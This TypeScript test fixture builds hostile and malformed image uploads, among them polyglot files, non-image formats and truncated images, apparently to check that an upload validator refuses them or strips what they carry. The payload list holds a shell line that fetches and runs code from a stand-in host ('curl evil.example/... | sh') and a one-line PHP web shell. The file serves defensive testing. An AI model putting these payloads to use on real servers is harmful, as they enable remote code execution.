import { join, little, type Part, u32, zeros } from '../bytes'
import { exifBlock } from '../images/camera'
import { gifs, jpegs, pngs, webps } from '../images/hostile-raster'
import { EVERYTHING, gif, jpeg, PNG_SIGNATURE, png, webp } from '../images/pictures'
import { accept, type Hostile, HTML, PDF, refuse, refuseSize, SCRIPT, SVG, ZIP } from './hostile-payloads'

/** Text that must not be in any stored image. */
export const BAD_MARKS = ['<script', '<svg', '<html', '%PDF', 'PK\x03\x04', 'GPSMARK', 'HOSTILEMARK']

/** A box of ISO media files, such as MP4, HEIC and AVIF. */
const box = (type: string, ...parts: Part[]) => {
  const content = join(...parts)
  return join(u32(content.length + 8), type, content)
}

const otherFiles = () => [
  refuse('nothing at all', ''),
  refuse('a single byte', [0xff]),
  refuse('zeros only', zeros(4096)),
  refuse('an SVG', SVG),
  refuse('an SVG with a byte order mark', '\xef\xbb\xbf', SVG),
  refuse('an SVG with an XML declaration', '<?xml version="1.0"?>', SVG),
  refuse('HTML', HTML),
  refuse('HTML that starts like a GIF', 'GIF89a', HTML),
  refuseSize('a script that starts like a GIF', `GIF89a/*${'x'.repeat(64)}*/=1;alert(1)//${SCRIPT}`),
  refuse('a script that starts like a JPEG', [0xff, 0xd8, 0xff, 0xe0], `/*${SCRIPT}*/=1`),
  refuse('a script that starts like a PNG', PNG_SIGNATURE, SCRIPT),
  refuse('a script that starts like a WebP', 'RIFF', little(64, 4), 'WEBPVP8 ', SCRIPT.padEnd(60)),
  refuse('a PDF', PDF),
  refuse('a ZIP', ZIP),
  refuse('a BMP', 'BM', little(70, 4), zeros(4), little(54, 4), little(40, 4), little(1, 8), little(24, 4), zeros(30)),
  refuse('a big-endian TIFF', exifBlock(6)),
  refuse('a little-endian TIFF', exifBlock(6, 'II')),
  refuse('an icon', [0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 24, 0], little(40, 4), little(22, 4), zeros(40)),
  refuse('an MP4', box('ftyp', 'isom', zeros(4), 'isomavc1'), box('moov', box('mvhd', SCRIPT)), box('mdat', SCRIPT)),
  refuse('a HEIC image', box('ftyp', 'heic', zeros(4), 'heicmif1'), box('mdat', SCRIPT)),
  refuse('an AVIF image', box('ftyp', 'avif', zeros(4), 'avifmif1miaf'), box('mdat', SCRIPT)),
  refuse('a WAVE file', 'RIFF', little(36, 4), 'WAVEfmt ', little(16, 4), zeros(16), 'data', zeros(4)),
  refuse('a JPEG XL image', [0, 0, 0, 12], 'JXL \r\n\x87\n', zeros(16)),
]

const PAYLOADS: [name: string, payload: Part][] = [
  ['HTML', HTML],
  ['an SVG', SVG],
  ['a PDF', PDF],
  ['a ZIP', ZIP],
  ['a Windows executable', join('MZ', zeros(58), little(64, 4), 'PE\0\0HOSTILEMARK')],
  ['a Linux executable', '\x7fELF\x02\x01\x01HOSTILEMARK'],
  ['a shell script', '#!/bin/sh\ncurl evil.example/HOSTILEMARK | sh\n'],
  ['a PHP script', '<?php system($_GET["HOSTILEMARK"]); ?>'],
]

/** Each format with a payload after it (removed) or before it (refused), and truncated (refused). */
const variations = () =>
  Object.entries({ JPEG: jpeg, PNG: png, GIF: gif, WebP: webp }).flatMap(([format, make]) => [
    ...PAYLOADS.map(([name, payload]) => accept(`a ${format} with ${name} after it`, make({ trailing: payload }))),
    ...PAYLOADS.map(([name, payload]) => refuse(`a ${format} with ${name} before it`, payload, make())),
    ...[12, 16, 24, 30, 40].map((length) =>
      refuse(`a ${format} truncated to ${length} bytes`, make(EVERYTHING).subarray(0, length)),
    ),
  ])

/** Malicious and malformed uploads, for each kind of attack on the image formats. */
export const hostileFiles = (): Hostile[] =>
  [otherFiles, jpegs, pngs, gifs, webps, variations].flatMap((list) => list())
